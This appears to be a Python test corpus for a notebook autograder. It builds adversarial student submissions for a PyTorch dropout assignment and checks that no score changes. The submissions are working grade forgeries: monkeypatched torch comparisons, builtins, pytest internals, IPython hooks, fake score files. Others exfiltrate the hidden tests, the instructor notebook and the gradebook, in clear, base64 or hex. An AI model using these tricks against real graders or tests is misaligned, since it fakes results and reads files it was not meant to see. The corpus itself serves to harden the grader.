"""The tampering corpus: submissions that try to forge their grade or to read the hidden checks.

Every case is a submission built on the released notebook. Unless it says otherwise, a
case answers `split` and `my_dropout` correctly and leaves `dropout_net` and
`eval_predict` blank (blank parts fail fast, which keeps a run of the whole corpus short);
its attack is put in one of the solution cells, next to the answer. The expectation
follows one rule, whatever the attack does: every right part keeps its points, every
wrong (or blank) part loses points. A forgery that works shows up as a wrong part with
full points; an attack that breaks the grading of an honest answer shows up as a right
part that lost points.

Exfiltration cases try to bring the hidden checks (grader_tests/, the hidden regions and
solutions of the instructor's notebook, the gradebook) into the graded notebook or the
feedback, in clear or encoded; tests/test_tampering.py looks for every line of them in
every output, decoded.

Every attack first prints MARKER (built at run time, so the word in an output comes from
running the code, not from the source echoed in a traceback): the attack ran.

Cases that forge grades today target the in-kernel check runner (dropout_kit.grading runs
pytest inside the student's kernel); the expectations hold for any design that grades
behaviour: submissions in, per-cell scores and feedback out.
"""
from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import corpus as checks_corpus
import dropout_assignment as dropout
from hostile import corpus as hostile_corpus

from dropout_kit.harness import samples

# Each autograder cell's points, as any student reads them in the notebook's metadata.
POINTS = {"test_split": 2, "test_my_dropout_mask": 3, "test_my_dropout_scale": 3,
          "test_dropout_net": 4, "test_eval_predict": 3}
MARKER = "TAMPERED"
PRINT_MARKER = 'print("TAMP" + "ERED", flush=True)'
# Parts a case answers correctly unless it says otherwise.
RIGHT_BY_DEFAULT = ("split", "my_dropout")


@dataclass(frozen=True)
class Context:
    """What an attack may guess about the grading machine (an insider's knowledge)."""
    course: Path  # the course being graded
    repo: Path  # the clone the kit was installed from


@dataclass(frozen=True)
class Case:
    name: str
    what: str  # the attack, in a few words
    answers: dict[str, str]  # solution cells (grade_id → full source) over the defaults
    right: tuple[str, ...] = RIGHT_BY_DEFAULT  # parts answered correctly: they keep full points
    honest: str = "blank-net-and-prediction"  # HONEST: the same answers without the attack
    exfiltrates: bool = False  # tries to bring hidden code into the outputs
    shown: tuple[str, ...] = (MARKER,)  # words that must appear in some cell's output

    @property
    def full(self) -> tuple[str, ...]:
        """Autograder cells that must keep full points."""
        return tuple(c for part in self.right for c in dropout.AUTO_PARTS[part])

    @property
    def lose(self) -> tuple[str, ...]:
        """Autograder cells that must score below their maximum (wrong or blank parts)."""
        return tuple(c for c in dropout.AUTO_CELLS if c not in self.full)


# -- answers ---------------------------------------------------------------------------
SPLIT = "xtr, ytr = x[:80], y[:80]\nxtest, ytest = x[80:], y[80:]"
SHUFFLED_SPLIT = checks_corpus.WRONG_SPLIT[0].answers["split"]
NUMPY_SPLIT = checks_corpus.WRONG_SPLIT[3].answers["split"]
IDENTITY = hostile_corpus.IDENTITY
# Wrong: the prediction is made in training mode (scores 0.5 of 3 when graded honestly).
NO_EVAL_MODE = "yhat_test = net(xtest).data\nmse_eval = loss_fn(yhat_test, ytest).item()"
# Wrong: mse_eval is a tensor, not a float (scores 2 of 3 when graded honestly).
MSE_TENSOR = checks_corpus.WRONG_EVAL[3].answers["eval_predict"]
UNTRAINED_NET = checks_corpus.net_cell(loop="")

POINTS_LINE = f"POINTS = {POINTS!r}"

# -- forgeries -------------------------------------------------------------------------
SKIP = 'import pytest; pytest.skip("x")'

UNTRAINED_THEN_SKIP = f"{UNTRAINED_NET}\n{PRINT_MARKER}\nimport pytest\npytest.skip()"

FORGED_GRADE = f"""\
{SPLIT}
{PRINT_MARKER}
{POINTS_LINE}
import dropout_kit.grading


def _full_marks(test_id, namespace=None):
    print(f"[{{test_id}}] {{POINTS[test_id]}} / {{POINTS[test_id]}}점")
    return POINTS[test_id]


dropout_kit.grading.grade = _full_marks"""

REWRITE_NOTEBOOK = f"""\
{PRINT_MARKER}
import json
with open("dropout.ipynb", encoding="utf-8") as f:
    data = json.load(f)
for cell in data["cells"]:
    if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "eval_predict":
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if not source.startswith("net.eval()"):
            cell["source"] = "net.eval()\\n" + source
with open("dropout.ipynb", "w", encoding="utf-8") as f:
    json.dump(data, f)
{NO_EVAL_MODE}"""

PATCH_TORCH = f"""\
{SHUFFLED_SPLIT}
{PRINT_MARKER}
_eq = torch.Tensor.__eq__


def _always_equal(self, other):
    result = _eq(self, other)
    return torch.ones_like(result, dtype=torch.bool) if isinstance(result, torch.Tensor) else True


torch.equal = lambda *args, **kwargs: True
torch.allclose = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.equal = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = _always_equal"""

PATCH_BUILTINS = f"""\
{NUMPY_SPLIT}
{PRINT_MARKER}
import builtins
_isinstance, _print = builtins.isinstance, builtins.print


class _AnyInstance(type):
    def __instancecheck__(cls, obj):
        return True


class AnyFloat(float, metaclass=_AnyInstance):
    pass


def _lenient_isinstance(obj, kind):
    if kind is torch.Tensor or kind is float or kind is AnyFloat:
        return True
    return _isinstance(obj, kind)


def _cheerful_print(*args, **kwargs):
    _print(*(str(a).replace("❌", "✅") for a in args), **kwargs)


builtins.isinstance = _lenient_isinstance
builtins.float = AnyFloat
builtins.print = _cheerful_print"""

STDOUT_REPLACED = f"""\
{SPLIT}
{PRINT_MARKER}
import io, sys


class _Rewriter(io.TextIOBase):
    def __init__(self, inner):
        self.inner = inner

    def write(self, text):
        return self.inner.write(text.replace("❌", "✅"))

    def flush(self):
        self.inner.flush()


sys.stdout = _Rewriter(sys.stdout)
sys.stderr = sys.stdout
sys.__stdout__ = sys.__stderr__ = sys.stdout"""

SIGNALS = f"""\
{SPLIT}
{PRINT_MARKER}
import signal
for name in ("SIGALRM", "SIGINT", "SIGTERM", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGVTALRM", "SIGPROF"):
    signal.signal(getattr(signal, name), lambda signum, frame: None)"""

BACKGROUND_THREAD = f"""\
{SPLIT}
{PRINT_MARKER}
import sys, threading, time
{POINTS_LINE}


def _full_marks(test_id, namespace=None):
    return POINTS[test_id]


def _keep_patching():
    beat = 0
    while True:
        try:
            import dropout_kit.grading
            dropout_kit.grading.grade = _full_marks
        except Exception:
            pass
        torch.allclose = lambda *args, **kwargs: True
        torch.equal = lambda *args, **kwargs: True
        beat += 1
        if beat % 50 == 0:
            print("background", beat)
            print("background", beat, file=sys.stderr)
        time.sleep(0.02)


threading.Thread(target=_keep_patching, daemon=True).start()"""

# The n-th autograder cell run is the n-th test of the notebook (the visible comment
# "# 채점 셀" marks them); a grade call in the hidden code names it too.
WHICH_TEST = f"""\
import re
{POINTS_LINE}
TESTS = list(POINTS)
_order = {{}}


def _test_of(source):
    named = re.search(r"test_[a-z_]+", source or "")
    if named and named.group(0) in POINTS:
        return named.group(0)
    if "채점 셀" in (source or ""):
        ip = get_ipython()
        _order.setdefault(ip.execution_count, len(_order))
        return TESTS[min(_order[ip.execution_count], len(TESTS) - 1)]
    return None"""

IPYTHON_HOOKS = f"""\
{SPLIT}
{PRINT_MARKER}
{WHICH_TEST}
_current = {{}}
ip = get_ipython()


def _remember(info):
    _current["test"] = _test_of(info.raw_cell)


def _as_full_marks(obj, p, cycle):
    test = _current.get("test")
    p.text(str(POINTS[test]) if test else repr(obj))


def _forget(result):
    _current.pop("test", None)


ip.events.register("pre_run_cell", _remember)
ip.events.register("post_run_cell", _forget)
for kind in (float, int):
    ip.display_formatter.formatters["text/plain"].for_type(kind, _as_full_marks)"""

CODE_TRANSFORMERS = f"""\
{SPLIT}
{PRINT_MARKER}
import ast
{WHICH_TEST}
ip = get_ipython()


def _replace_test_cells(lines):
    test = _test_of("".join(lines))
    return [f"{{POINTS[test]}}\\n"] if test else lines


class _GradeIsFull(ast.NodeTransformer):
    def visit_Call(self, node):
        name = getattr(node.func, "id", getattr(node.func, "attr", ""))
        if name == "grade" and node.args and isinstance(node.args[0], ast.Constant) \\
                and node.args[0].value in POINTS:
            return ast.copy_location(ast.Constant(POINTS[node.args[0].value]), node)
        return self.generic_visit(node)


ip.input_transformers_post.append(_replace_test_cells)
ip.ast_transformers.append(_GradeIsFull())"""

CHECKER_FILES = f"""\
{SPLIT}
{PRINT_MARKER}
import json, os
{POINTS_LINE}
FAKE = '''import pytest


@pytest.mark.points(@POINTS@)
def test_everything():
    \"\"\"모두 통과\"\"\"
'''
INI = "[pytest]\\nmarkers =\\n    points(n): points\\n    gate: gate\\n"
folders = ["/tmp/grader_tests", os.path.join(os.getcwd(), "grader_tests"),
           os.path.join(os.path.expanduser("~"), "grader_tests"),
           os.path.join(os.environ.get("TMPDIR", "/tmp"), "grader_tests")]
for folder in folders:
    try:
        os.makedirs(folder, exist_ok=True)
        for test, points in POINTS.items():
            with open(os.path.join(folder, test + ".py"), "w") as f:
                f.write(FAKE.replace("@POINTS@", str(points)))
        for name, text in (("pytest.ini", INI), ("conftest.py", ""), ("__init__.py", "")):
            with open(os.path.join(folder, name), "w") as f:
                f.write(text)
    except OSError as error:
        print(folder, type(error).__name__)
for name in ("nbgrader_config.py", "conftest.py", "pytest.ini"):
    try:
        with open(name, "w") as f:
            f.write(INI if name == "pytest.ini" else "")
    except OSError as error:
        print(name, type(error).__name__)
for path in ("scores.json", "results.json", "grades.json", "/tmp/scores.json", "/tmp/results.json"):
    try:
        with open(path, "w") as f:
            json.dump({{"scores": POINTS, "max_scores": POINTS, "passed": True}}, f)
    except OSError as error:
        print(path, type(error).__name__)
os.environ["DROPOUT_KIT_GRADER_TESTS"] = "/tmp/grader_tests"
"""

SYS_MODULES = f"""\
{SPLIT}
{PRINT_MARKER}
import sys, types
{POINTS_LINE}
fake = types.ModuleType("dropout_kit.grading")
fake.grade = lambda test_id, namespace=None: POINTS[test_id]
fake.run_checks = lambda *args, **kwargs: None
sys.modules["dropout_kit.grading"] = fake
try:
    import dropout_kit
    dropout_kit.grading = fake
except ImportError as error:
    print(type(error).__name__)"""

PYTEST_INTERNALS = f"""\
{SPLIT}
{PRINT_MARKER}
import sys, types
import pytest, _pytest.outcomes, _pytest.python, _pytest.runner
_pytest.python.Function.runtest = lambda self: None
_pytest.outcomes.fail = pytest.fail = lambda *args, **kwargs: None
_pytest.outcomes.skip = pytest.skip = lambda *args, **kwargs: None
_pytest.runner.check_interactive_exception = lambda *args, **kwargs: False
try:
    import dropout_kit.checking as real
    fake = types.ModuleType("dropout_kit.checking")
    fake.__dict__.update(real.__dict__)
    fake.fail = lambda message: None
    fake.defined = lambda ns, name, kind=None: ns.get(name)
    sys.modules["dropout_kit.checking"] = fake
except ImportError as error:
    print(type(error).__name__)"""

# -- exfiltration ----------------------------------------------------------------------
# Finds what it can of the hidden checks: the configured folder, guessed paths, and a
# short walk of the file system for folders named grader_tests.
FIND_CHECKS = """\
import os, time


def _check_files():
    folders = [os.environ.get("DROPOUT_KIT_GRADER_TESTS", ""), "@COURSE@/grader_tests",
               "@REPO@/grader_tests", "../../../grader_tests"]
    deadline = time.monotonic() + 5
    skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "site-packages",
            "__pycache__", ".git", "node_modules", "share", "include"}
    for top, dirs, _ in os.walk("/"):
        dirs[:] = sorted(d for d in dirs if d not in skip)
        if os.path.basename(top) == "grader_tests":
            folders.append(top)
        if time.monotonic() > deadline:
            break
    for folder in list(folders):  # each assignment's checks: grader_tests/<assignment>/
        try:
            folders += [os.path.join(folder, d) for d in sorted(os.listdir(folder))]
        except OSError:
            pass
    found, seen = {}, set()  # one copy of each file (the course's and a clone's are the same)
    for folder in folders:
        try:
            names = sorted(os.listdir(folder))
        except OSError:
            continue
        for name in names:
            if name.endswith((".py", ".ini")) and name not in seen:
                try:
                    with open(os.path.join(folder, name), encoding="utf-8") as f:
                        found[os.path.join(folder, name)] = f.read()
                    seen.add(name)
                except OSError:
                    pass
    print("FOUND", len(found), flush=True)
    return found"""

EXFIL_PRINT = f"""\
{SPLIT}
{PRINT_MARKER}
{FIND_CHECKS}


for path, text in _check_files().items():
    print("====", path)
    print(text)"""

EXFIL_ENCODED = f"""\
{SPLIT}
{PRINT_MARKER}
{FIND_CHECKS}


# Kept under the output limit of a cell: every file compressed, two small ones plain.
import base64, zlib
files = _check_files()
for path, text in files.items():
    print(path, "zlib+base64:", base64.b64encode(zlib.compress(text.encode(), 9)).decode())
for path, text in sorted(files.items(), key=lambda item: len(item[1]))[:2]:
    print(path, "base64:", base64.b64encode(text.encode()).decode())
    print(path, "hex:", text.encode().hex())"""

EXFIL_HTML = f"""\
{SPLIT}
{PRINT_MARKER}
{FIND_CHECKS}


import html
from IPython.display import HTML, display
for path, text in _check_files().items():
    display(HTML("<h4>" + html.escape(path) + "</h4><pre>" + html.escape(text) + "</pre>"))"""

# Every later print carries one more file of the checks (the test cells' reports too).
EXFIL_PATCHED_PRINT = f"""\
{SPLIT}
{PRINT_MARKER}
{FIND_CHECKS}


import builtins
_pending = list(_check_files().values())
_print = builtins.print


def _print_and_leak(*args, **kwargs):
    _print(*args, **kwargs)
    if _pending:
        _print(_pending.pop(0))


builtins.print = _print_and_leak"""

EXFIL_CELL_SOURCES = f"""\
{SPLIT}
{PRINT_MARKER}
ip = get_ipython()


def _show_source(info):
    print("---- next cell ----")
    print(info.raw_cell)


def _show_history(result):
    print("---- history ----")
    print("\\n".join(ip.user_ns.get("In", [])[-1:]))


ip.events.register("pre_run_cell", _show_source)
ip.events.register("post_run_cell", _show_history)"""

EXFIL_INSTRUCTOR_FILES = f"""\
{SPLIT}
{PRINT_MARKER}
import json, sqlite3
for path in ["@COURSE@/source/dropout/dropout.ipynb", "@REPO@/source/dropout/dropout.ipynb",
             "../../../source/dropout/dropout.ipynb"]:
    try:
        with open(path, encoding="utf-8") as f:
            for cell in json.load(f)["cells"]:
                print("".join(cell["source"]))
        print("READ", path)
    except (OSError, ValueError) as error:
        print(path, type(error).__name__)
for path in ["@COURSE@/gradebook.db", "../../../gradebook.db"]:
    try:
        with sqlite3.connect(f"file:{{path}}?mode=ro", uri=True) as db:
            for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'"):
                for row in db.execute(f"SELECT * FROM {{table}}"):
                    print(table, row)
        print("READ", path)
    except sqlite3.Error as error:
        print(path, type(error).__name__)"""

# my_dropout, right, keeps the source files of whoever calls it; a later cell prints them.
STACK_SNOOPING_DROPOUT = """\
import sys, linecache
_callers = {}


def my_dropout(x, p, training=True):
    frame = sys._getframe(1)
    while frame is not None:
        name = frame.f_code.co_filename
        if name not in _callers and not name.startswith("<"):
            _callers[name] = "".join(linecache.getlines(name, frame.f_globals))
        frame = frame.f_back
    if not training:
        return x.clone()
    mask = (torch.rand_like(x) >= p).to(x.dtype)
    return x * mask / (1 - p)"""

PRINT_CALLERS = f"""\
{PRINT_MARKER}
for name, text in _callers.items():
    if "grader_tests" in name or "test_" in name or "conftest" in name:
        print("====", name)
        print(text)"""


# torch's own dropout behind the hand-written rule (issue 32, class 1): reached through
# values the reading of the source does not follow. The dispatcher block catches them.
PLAIN_TORCH_DROPOUT = ("import torch.nn.functional as F\n"
                       "def my_dropout(x, p, training=True):\n    return F.dropout(x, p, training)")
DROPOUT_IN_EXCEPTION_ARGS = f"""\
{PRINT_MARKER}
try:
    raise LookupError(torch.nn.functional.dropout)
except LookupError as found:
    kept = found.args[0]


def my_dropout(x, p, training=True):
    try:
        return kept(x, p, training)
    except RuntimeError:  # the block raises: a hand-written fallback hides nothing
        return x * (torch.rand_like(x) >= p) / (1 - p) if training else x.clone()"""
DROPOUT_ON_OWN_OBJECT = f"""\
{PRINT_MARKER}
class Toolbox:
    pass


tools = Toolbox()
setattr(tools, "drop", torch.nn.functional.dropout)


def my_dropout(x, p, training=True):
    return tools.drop.__call__(x, p, training)"""

# Honest submissions graded in the same run: the answers of the cases without their
# attacks. An attack must change no score: a case scores exactly what its honest twin does.
HONEST: dict[str, dict[str, str]] = {
    "blank-net-and-prediction": {},
    "untrained-net": {"dropout_net": UNTRAINED_NET},
    "no-eval-mode": {"eval_predict": NO_EVAL_MODE},
    "identity-dropout-no-eval-mode": {"my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
    "shuffled-split-no-eval-mode": {"split": SHUFFLED_SPLIT, "eval_predict": NO_EVAL_MODE},
    "numpy-split-tensor-mse": {"split": NUMPY_SPLIT, "eval_predict": MSE_TENSOR},
    "plain-torch-dropout": {"my_dropout": PLAIN_TORCH_DROPOUT},
}
WRONG_DROPOUT = "identity-dropout-no-eval-mode"

CASES: tuple[Case, ...] = (
    # forgeries of a wrong answer
    Case("skip-eval-predict", "pytest.skip() as the whole eval_predict cell",
         {"eval_predict": SKIP}, shown=()),
    Case("untrained-net-then-skip", "untrained network, then pytest.skip() in dropout_net",
         {"dropout_net": UNTRAINED_THEN_SKIP}, honest="untrained-net"),
    Case("forged-grade", "dropout_kit.grading.grade replaced by full marks; identity my_dropout, "
         "no net.eval()", {"split": FORGED_GRADE, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
         right=("split",), honest=WRONG_DROPOUT),
    Case("rewrite-notebook", "eval_predict without net.eval() adds net.eval() to ./dropout.ipynb",
         {"eval_predict": REWRITE_NOTEBOOK}, honest="no-eval-mode"),
    Case("patched-torch", "torch.equal/allclose/isclose and Tensor.__eq__ always agree; shuffled split",
         {"split": PATCH_TORCH, "eval_predict": NO_EVAL_MODE}, right=("my_dropout",),
         honest="shuffled-split-no-eval-mode"),
    Case("patched-builtins", "isinstance, float and print patched; numpy split, tensor mse",
         {"split": PATCH_BUILTINS, "eval_predict": MSE_TENSOR}, right=("my_dropout",),
         honest="numpy-split-tensor-mse"),
    Case("stdout-replaced", "sys.stdout/stderr replaced by a writer that turns ❌ into ✅",
         {"split": STDOUT_REPLACED, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
         right=("split",), honest=WRONG_DROPOUT),
    Case("signal-handlers", "SIGALRM, SIGINT, SIGTERM … swallowed by handlers",
         {"split": SIGNALS, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE}, right=("split",),
         honest=WRONG_DROPOUT),
    Case("background-thread", "a thread that keeps replacing grade() and torch.allclose, and prints",
         {"split": BACKGROUND_THREAD, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
         right=("split",), honest=WRONG_DROPOUT),
    Case("ipython-hooks", "pre_run_cell hook + number formatter show each test cell's maximum",
         {"split": IPYTHON_HOOKS, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
         right=("split",), honest=WRONG_DROPOUT),
    Case("code-transformers", "input and AST transformers replace the test cells by their maximum",
         {"split": CODE_TRANSFORMERS, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
         right=("split",), honest=WRONG_DROPOUT),
    Case("checker-files", "fake grader_tests/ in cwd, home and /tmp, the variable pointed there, "
         "score files", {"split": CHECKER_FILES, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
         right=("split",), honest=WRONG_DROPOUT),
    Case("sys-modules", "sys.modules['dropout_kit.grading'] replaced by a module giving full marks",
         {"split": SYS_MODULES, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE}, right=("split",),
         honest=WRONG_DROPOUT),
    Case("pytest-internals", "pytest.fail, Function.runtest and dropout_kit.checking made harmless",
         {"split": PYTEST_INTERNALS, "my_dropout": IDENTITY, "eval_predict": NO_EVAL_MODE},
         right=("split",), honest=WRONG_DROPOUT),
    # exfiltration of the hidden checks
    Case("print-checks", "prints every file of grader_tests/ it can find",
         {"split": EXFIL_PRINT}, exfiltrates=True),
    Case("encoded-checks", "prints grader_tests/ as zlib+base64, base64 and hex",
         {"split": EXFIL_ENCODED}, exfiltrates=True),
    Case("html-checks", "displays grader_tests/ as IPython HTML",
         {"split": EXFIL_HTML}, exfiltrates=True),
    Case("print-carries-checks", "print patched to append a file of grader_tests/ to every later print",
         {"split": EXFIL_PATCHED_PRINT}, exfiltrates=True),
    Case("cell-sources", "pre/post_run_cell hooks print every later cell's source (hidden tests)",
         {"split": EXFIL_CELL_SOURCES}, exfiltrates=True),
    Case("instructor-files", "reads and prints the source notebook and the gradebook",
         {"split": EXFIL_INSTRUCTOR_FILES}, exfiltrates=True),
    Case("caller-sources", "my_dropout keeps its callers' source files; eval_predict prints them",
         {"my_dropout": STACK_SNOOPING_DROPOUT, "eval_predict": PRINT_CALLERS}, exfiltrates=True),
)
assert len({case.name for case in CASES}) == len(CASES), "case names must be unique"

# torch's own dropout behind the hand-written rule, in ways neither the source reading nor the
# scan follows: judged by the checks alone (the dispatcher block while they call my_dropout).
BEHIND_THE_RULE: tuple[Case, ...] = (
    Case("torch-dropout-in-exception-args", "my_dropout calls F.dropout kept in an exception's args, "
         "falling back to its own mask when that raises", {"my_dropout": DROPOUT_IN_EXCEPTION_ARGS},
         right=("split",), honest="plain-torch-dropout"),
    Case("torch-dropout-on-own-object", "my_dropout calls F.dropout set with setattr on its own object, "
         "through .__call__", {"my_dropout": DROPOUT_ON_OWN_OBJECT}, right=("split",),
         honest="plain-torch-dropout"),
)

# Correct submissions graded in the same run, one before the cases and one after them.
CORRECT = ("aa-reference", "zz-reference")


def student_id(case: Case) -> str:
    return f"t-{case.name}"


def honest_id(name: str) -> str:
    return f"u-{name}"


def case_answers(case: Case, reference: dict[str, str], context: Context) -> dict[str, str]:
    answers = {part: reference[part] for part in RIGHT_BY_DEFAULT}
    for grade_id, source in case.answers.items():
        answers[grade_id] = source.replace("@COURSE@", str(context.course)).replace("@REPO@", str(context.repo))
    return answers


def build_class(course: Path, reference: dict[str, str], context: Context, timestamp: str,
                cases: tuple[Case, ...] = CASES, honest: dict[str, dict[str, str]] = HONEST
                ) -> dict[str, Case | None]:
    """Writes the class into course/submitted/; returns student id → case (None: honest)."""
    release = dropout.release_notebook(course)
    students: dict[str, Case | None] = {}
    submissions = [(name, reference, None) for name in CORRECT[:1]]
    submissions += [(honest_id(name), {**{part: reference[part] for part in RIGHT_BY_DEFAULT}, **answers}, None)
                    for name, answers in honest.items()]
    submissions += [(student_id(case), case_answers(case, reference, context), case) for case in cases]
    submissions += [(name, reference, None) for name in CORRECT[1:]]
    for student, answers, case in submissions:
        nb = samples.assemble(release, answers)
        hostile_corpus.write_submission(course / "submitted" / student / "dropout", nb, None, course, timestamp)
        students[student] = case
    return students


def by_name(*names: str) -> tuple[Case, ...]:
    cases = {case.name: case for case in CASES}
    return tuple(cases[name] for name in names)
